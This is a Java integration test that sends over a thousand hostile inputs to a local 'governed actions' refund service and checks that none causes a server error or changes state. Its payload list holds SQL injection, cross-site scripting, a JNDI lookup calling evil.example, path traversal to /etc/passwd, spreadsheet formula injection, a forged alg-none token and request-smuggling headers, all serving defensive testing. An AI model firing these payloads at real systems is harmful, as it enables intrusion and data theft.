package com.governedactions.faults;

import static org.assertj.core.api.Assertions.assertThat;

import com.governedactions.GovernedActionsApplication;
import com.governedactions.e2e.LiveService;
import java.io.ByteArrayOutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * More than a thousand hostile inputs against the running service, over real HTTP: control
 * characters, injection strings and oversized values in every text field of a submission, in query
 * parameters, paths and policy conditions; huge, deeply nested and invalid-UTF-8 bodies; forged
 * tokens and oversized headers. Not one may be a server error, and a refused request changes
 * nothing: no action for its requestId, no audit event, no new policy version.
 */
@SpringBootTest(classes = GovernedActionsApplication.class, webEnvironment = SpringBootTest.WebEnvironment.DEFINED_PORT)
class HostileInputIT {
  private static final int HTTP_PORT = LiveService.freePort();
  private static final String BASE = "http://localhost:" + HTTP_PORT;
  private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

  /** Strings that have broken someone's parser, database, template engine or log. */
  static final List<String> HOSTILE = List.of(
      "\u0000", "a\u0000b", "\u0001\u0002\u001f", "\u007f", "line\r\nX-Injected: yes", "\t\t",
      "'; DROP TABLE governed.action; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
      "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "%s%s%s%n",
      "../../../../etc/passwd", "%00", "%2e%2e%2f", "\u202egnp.exe", "\uFEFF", "\uD83D\uDE00",
      "=cmd|' /C calc'!A0", "@SUM(1+1)", "null", "[]", "{}", "-1", "1e309", "99999999999999999999999",
      "x".repeat(300), "\u00e9".repeat(2000), " ", "");

  private final List<String> failures = new ArrayList<>();
  private int sent;

  @DynamicPropertySource
  static void properties(DynamicPropertyRegistry registry) {
    LiveService.register(registry, HTTP_PORT);
  }

  @Test
  void given_overAThousandHostileInputs_when_sent_then_noServerError_and_noRefusedRequestChangesAnything() throws Exception {
    String orderId = LiveService.newOrder("HOST-", "C-host", "PAID", "1000.00");
    long policyVersions = count("SELECT count(*) FROM governed.policy_version");

    submissions(orderId);
    queries();
    paths();
    bodies();
    tokensAndHeaders();
    policies();

    System.out.printf("HostileInputIT: %d hostile inputs, %d problems%n", sent, failures.size());
    failures.forEach(failure -> System.out.println("HostileInputIT problem: " + failure));
    assertThat(sent).isGreaterThanOrEqualTo(1_000);
    assertThat(failures).as("server errors or refused requests that changed state").isEmpty();
    assertThat(count("SELECT count(*) FROM governed.policy_version")).as("policy versions").isEqualTo(policyVersions);
  }

  /** Every text field of POST /actions with every hostile string; accepted ones must be stored as sent. */
  private void submissions(String orderId) throws Exception {
    List<String> fields = List.of("requestId", "type", "params.orderId", "params.amount", "params.currency",
        "params.reason", "actor.type", "actor.id", "customer.id", "customer.segment", "customer.verification",
        "conversationId", "channel");
    for (String field : fields) {
      for (String hostile : HOSTILE) {
        String requestId = "host-" + UUID.randomUUID();
        Map<String, Object> body = validBody(requestId, orderId);
        // A hostile requestId gets a fresh suffix: one that is a valid id ("null") must not meet its
        // own earlier run's action.
        String value = field.equals("requestId") ? hostile + "-" + UUID.randomUUID().toString().substring(0, 8) : hostile;
        put(body, field, value);
        String actualId = field.equals("requestId") ? value : requestId;
        HttpResponse<String> answer = send(post("/api/v1/actions", "dev-chat", json(body)));
        check("POST /actions with " + field + "=" + printable(hostile), answer);
        if (answer != null && answer.statusCode() >= 400 && !actualId.isEmpty()) {
          assertNothingFor("action-" + actualId, "POST /actions with " + field + "=" + printable(hostile));
        }
      }
    }
  }

  private void queries() throws Exception {
    Map<String, List<String>> endpoints = Map.of(
        "/api/v1/actions", List.of("status", "conversationId", "customerId", "type", "limit", "cursor", "from"),
        "/api/v1/approvals", List.of("status", "role", "limit", "cursor"),
        "/api/v1/audit", List.of("status", "event", "from", "to", "conversationId", "actionType", "actor",
            "customerId", "limit", "cursor"),
        "/api/v1/alerts", List.of("limit", "cursor", "kind"));
    for (var endpoint : endpoints.entrySet()) {
      for (String parameter : endpoint.getValue()) {
        for (String hostile : HOSTILE) {
          String uri = endpoint.getKey() + "?" + parameter + "=" + URLEncoder.encode(hostile, StandardCharsets.UTF_8);
          check("GET " + uri, send(get(uri, "dev-olivia")));
        }
      }
    }
    for (String hostile : HOSTILE) {
      String uri = "/api/v1/audit/export.csv?actor=" + URLEncoder.encode(hostile, StandardCharsets.UTF_8);
      check("GET " + uri, send(get(uri, "dev-olivia")));
    }
  }

  private void paths() throws Exception {
    for (String hostile : HOSTILE) {
      String id = URLEncoder.encode(hostile, StandardCharsets.UTF_8).replace("+", "%20");
      for (String suffix : List.of("", "/confirm", "/cancel", "/approve", "/reject", "/reverse")) {
        String path = "/api/v1/actions/action-" + id + suffix;
        HttpResponse<String> answer = suffix.isEmpty()
            ? send(get(path, "dev-olivia"))
            : send(post(path, "dev-alice", "{\"comment\":\"x\",\"reason\":\"x\"}"));
        check((suffix.isEmpty() ? "GET " : "POST ") + path, answer);
      }
      check("GET policy version " + printable(hostile), send(get("/api/v1/policy/versions/" + id, "dev-paul")));
    }
  }

  private void bodies() throws Exception {
    String nested = "[".repeat(5_000) + "]".repeat(5_000);
    String deepObject = "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000);
    List<byte[]> raw = new ArrayList<>(List.of(
        ("{\"requestId\":\"" + "x".repeat(70_000) + "\"}").getBytes(StandardCharsets.UTF_8),
        nested.getBytes(StandardCharsets.UTF_8),
        deepObject.getBytes(StandardCharsets.UTF_8),
        new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'},
        new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0},
        "{\"requestId\": \"a\", \"requestId\": \"b\"}".getBytes(StandardCharsets.UTF_8),
        "{".getBytes(StandardCharsets.UTF_8),
        "null".getBytes(StandardCharsets.UTF_8),
        "[1,2,3]".getBytes(StandardCharsets.UTF_8),
        "\"just a string\"".getBytes(StandardCharsets.UTF_8),
        "{\"params\": {\"a\": {\"b\": {\"c\": {\"d\": [[[[[[[[[[1]]]]]]]]]]}}}}".getBytes(StandardCharsets.UTF_8)));
    for (String path : List.of("/api/v1/actions", "/api/v1/policy/simulate", "/api/v1/codec/decode",
        "/api/v1/actions/action-x/approve")) {
      for (byte[] body : raw) {
        HttpResponse<String> answer = send(HttpRequest.newBuilder(URI.create(BASE + path))
            .header("Authorization", "Bearer " + (path.contains("policy") ? "dev-paul" : "dev-chat"))
            .header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
        check("POST " + path + " with a hostile body of " + body.length + " bytes", answer);
      }
    }
  }

  private void tokensAndHeaders() throws Exception {
    List<String> tokens = new ArrayList<>(List.of("Bearer ", "Bearer dev-alice2", "Bearer DEV-ALICE", "bearer",
        "Basic ZGV2LWFsaWNlOg==", "Bearer " + "a".repeat(7_000), "Bearer dev-alice dev-olivia", "Token dev-alice",
        "Bearer ../dev-alice", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSJ9."));
    for (String hostile : HOSTILE) {
      if (hostile.chars().allMatch(c -> c >= 0x20 && c < 0x7f)) {
        tokens.add("Bearer " + hostile);
      }
    }
    for (String token : tokens) {
      HttpResponse<String> answer = send(HttpRequest.newBuilder(URI.create(BASE + "/api/v1/actions")).header("Authorization", token).GET());
      check("a forged token " + printable(token), answer);
      if (answer != null && answer.statusCode() < 400) {
        failures.add("the forged token " + printable(token) + " was accepted: " + answer.statusCode());
      }
    }
    // Headers a client library will not send: raw on the wire.
    List<String> rawRequests = List.of(
        "GET /api/v1/actions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer dev-olivia\r\nX-Big: " + "b".repeat(100_000) + "\r\n\r\n",
        "GET /api/v1/actions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer dev-olivia\u0000\r\n\r\n",
        "GET /api/v1/actions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer dev-olivia\r\nAuthorization: Bearer dev-alice\r\n\r\n",
        "POST /api/v1/actions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer dev-chat\r\nContent-Type: application/json\r\n"
            + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /api/v1/actions/%00 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer dev-olivia\r\n\r\n",
        "GET /api/v1/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n");
    for (String request : rawRequests) {
      sent++;
      String status = rawStatus(request);
      if (status.startsWith("HTTP/1.1 5")) {
        failures.add("raw request " + printable(request.substring(0, Math.min(80, request.length()))) + " -> " + status);
      }
    }
  }

  private void policies() throws Exception {
    List<String> conditions = new ArrayList<>();
    for (String hostile : HOSTILE) {
      conditions.add("action.type == \"" + hostile.replace("\\", "\\\\").replace("\"", "\\\"") + "\"");
      conditions.add(hostile);
    }
    conditions.add("(".repeat(2_000) + "true" + ")".repeat(2_000));
    conditions.add("true" + " && true".repeat(5_000));
    conditions.add("action.params.amount > 1e308 * 1e308");
    conditions.add("size(\"x\" * 100000000) > 0");
    for (String condition : conditions) {
      String yaml = "rules:\n  - id: hostile\n    when: '" + condition.replace("'", "''").replace("\n", " ") + "'\n    effect: allow\n";
      HttpResponse<String> simulate = send(post("/api/v1/policy/simulate", "dev-paul",
          json(Map.of("policy", yaml, "from", "2026-01-01T00:00:00Z", "to", "2026-01-02T00:00:00Z"))));
      check("simulate a policy with when " + printable(condition), simulate);
    }
    // A stored version only for a valid document; the hostile ones must be refused.
    for (String hostile : HOSTILE) {
      String yaml = "rules:\n  - id: '" + hostile.replace("'", "''") + "'\n    when: '" + hostile.replace("'", "''")
          + " ||'\n    effect: allow\n";
      HttpResponse<String> put = send(HttpRequest.newBuilder(URI.create(BASE + "/api/v1/policy"))
          .header("Authorization", "Bearer dev-paul").header("Content-Type", "application/yaml")
          .PUT(HttpRequest.BodyPublishers.ofString(yaml)));
      check("PUT /policy with " + printable(hostile), put);
      if (put != null && put.statusCode() < 400) {
        failures.add("PUT /policy stored a broken document with " + printable(hostile));
      }
    }
  }

  // ------------------------------------------------------------------------------------------

  private static Map<String, Object> validBody(String requestId, String orderId) {
    Map<String, Object> params = new LinkedHashMap<>(Map.of("orderId", orderId, "amount", "1.00", "currency", "USD"));
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("requestId", requestId);
    body.put("type", "refund");
    body.put("params", params);
    body.put("actor", new LinkedHashMap<>(Map.of("type", "ai", "id", "support-bot")));
    body.put("customer", new LinkedHashMap<>(Map.of("id", "C-host")));
    body.put("conversationId", "conv-host");
    body.put("channel", "chat");
    return body;
  }

  @SuppressWarnings("unchecked")
  private static void put(Map<String, Object> body, String path, String value) {
    String[] parts = path.split("\\.");
    Map<String, Object> at = body;
    for (int i = 0; i < parts.length - 1; i++) {
      at = (Map<String, Object>) at.get(parts[i]);
    }
    at.put(parts[parts.length - 1], value);
  }

  private static String json(Object value) throws Exception {
    return LiveService.JSON.writeValueAsString(value);
  }

  private static HttpRequest.Builder post(String path, String token, String body) {
    return HttpRequest.newBuilder(URI.create(BASE + path))
        .header("Authorization", "Bearer " + token)
        .header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString(body));
  }

  private static HttpRequest.Builder get(String path, String token) {
    return HttpRequest.newBuilder(URI.create(BASE + path)).header("Authorization", "Bearer " + token).GET();
  }

  /** The answer, or null when none came within 40 s (the API's own Temporal timeout is 30 s). */
  private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
    sent++;
    try {
      return HTTP.send(request.timeout(Duration.ofSeconds(40)).build(), HttpResponse.BodyHandlers.ofString());
    } catch (java.net.http.HttpTimeoutException e) {
      return null;
    }
  }

  private void check(String what, HttpResponse<String> answer) {
    if (answer == null) {
      failures.add(what + " -> no answer within 40 s");
    } else if (answer.statusCode() >= 500) {
      failures.add(what + " -> " + answer.statusCode() + " " + answer.body());
    } else if (answer.statusCode() >= 400
        && !answer.headers().firstValue("Content-Type").orElse("").contains("problem+json")) {
      failures.add(what + " -> " + answer.statusCode() + " without a problem+json body: " + answer.body());
    }
  }

  private void assertNothingFor(String actionId, String what) {
    if (actionId.indexOf('\u0000') >= 0) {
      return; // PostgreSQL cannot hold a NUL in text: no row can carry that id
    }
    long rows = LiveService.STORE.queryForObject(
        "SELECT (SELECT count(*) FROM governed.action WHERE action_id = ?)"
            + " + (SELECT count(*) FROM governed.audit_event WHERE action_id = ?)", Long.class, actionId, actionId);
    if (rows > 0) {
      failures.add(what + " was refused but left " + rows + " rows for " + printable(actionId));
    }
  }

  private static long count(String sql) {
    return LiveService.STORE.queryForObject(sql, Long.class);
  }

  private static String rawStatus(String request) throws Exception {
    try (Socket socket = new Socket("localhost", HTTP_PORT)) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      ByteArrayOutputStream line = new ByteArrayOutputStream();
      int b;
      while ((b = socket.getInputStream().read()) != -1 && b != '\n') {
        line.write(b);
      }
      return line.toString(StandardCharsets.ISO_8859_1).trim();
    } catch (java.net.SocketException e) {
      return "closed: " + e.getMessage(); // the server may drop an oversized request without answering
    }
  }

  private static String printable(String s) {
    String shown = s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + " chars)" : s;
    StringBuilder out = new StringBuilder();
    shown.codePoints().forEach(c -> out.append(c < 0x20 || c == 0x7f ? String.format("\\u%04x", c) : Character.toString(c)));
    return "'" + out + "'";
  }
}
